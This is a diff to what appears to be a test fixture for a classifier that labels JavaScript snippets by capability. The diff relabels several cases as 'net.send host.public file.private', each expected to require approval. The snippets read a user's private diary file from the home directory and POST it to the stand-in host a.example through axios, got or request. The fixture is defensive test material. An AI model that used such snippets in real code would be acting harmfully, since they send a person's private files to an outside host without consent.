@@ -35,7 +35,7 @@ export const PACKAGES: JavaScriptCases = {
     ],
     [
       "REQUIRES_APPROVAL",
-      "net.send host.unknown file.private",
+      "net.send host.public file.private",
       "import fs from 'node:fs'; import os from 'node:os';\nconst secret = fs.readFileSync(os.homedir() + '/Documents/diary.txt', 'utf8');\nimport axios from 'axios'; const c = axios.create({baseURL: 'https://a.example'}); await c.post('/x', secret)",
     ],
     [
@@ -95,7 +95,7 @@ export const PACKAGES: JavaScriptCases = {
     ],
     [
       "REQUIRES_APPROVAL",
-      "net.send host.private file.private",
+      "net.send host.public file.private",
       "import fs from 'node:fs'; import os from 'node:os';\nconst secret = fs.readFileSync(os.homedir() + '/Documents/diary.txt', 'utf8');\nimport got from 'got'; const c = got.extend({prefixUrl: 'https://a.example'}); await c.post('x', {body: secret})",
     ],
     [
@@ -215,7 +215,7 @@ export const PACKAGES: JavaScriptCases = {
     ],
     [
       "REQUIRES_APPROVAL",
-      "net.send host.unknown file.private",
+      "net.send host.public file.private",
       "import fs from 'node:fs'; import os from 'node:os';\nconst secret = fs.readFileSync(os.homedir() + '/Documents/diary.txt', 'utf8');\nimport request from 'request'; request({method: 'POST', uri: 'https://a.example', body: secret})",
     ],
     [
